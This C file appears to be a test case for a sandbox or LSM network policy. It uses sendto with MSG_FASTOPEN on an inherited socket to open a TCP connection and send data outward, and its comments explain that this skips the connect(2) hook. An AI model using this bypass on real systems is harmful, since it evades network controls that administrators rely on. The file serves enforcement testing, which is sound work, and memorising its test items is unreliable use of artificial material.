/* SPDX-License-Identifier: Apache-2.0 */
/*
 * A connection made by sending: MSG_FASTOPEN.
 *
 * tcp_sendmsg connects by itself, behind the hook of connect(2); no LSM of the kernel looked at it. The socket is another
 * program's, so that it is not made here.
 *
 * ---
 * tries: [D5]
 * breaks: {network: {matchProtocols: [{protocol: tcp, fromSource: [{path: "{o}/second"}]}]}}
 * before: cp "$SELF" "$O/second"
 * wins: reached
 * source: https://github.com/landlock-lsm/linux/issues/41
 */
#include "attack.h"

int main(int argc, char **argv)
{
	struct sockaddr_in to = outside();

	if (argc == 1) {
		must(dup2(socket(AF_INET, SOCK_STREAM, 0), 20), "socket");
		execl(O("second"), argv[0], "second", NULL);
		return failed("execl");
	}
	must(sendto(20, word(), strlen(word()), MSG_FASTOPEN, (struct sockaddr *)&to, sizeof(to)), "sendto");
	return 0;
}
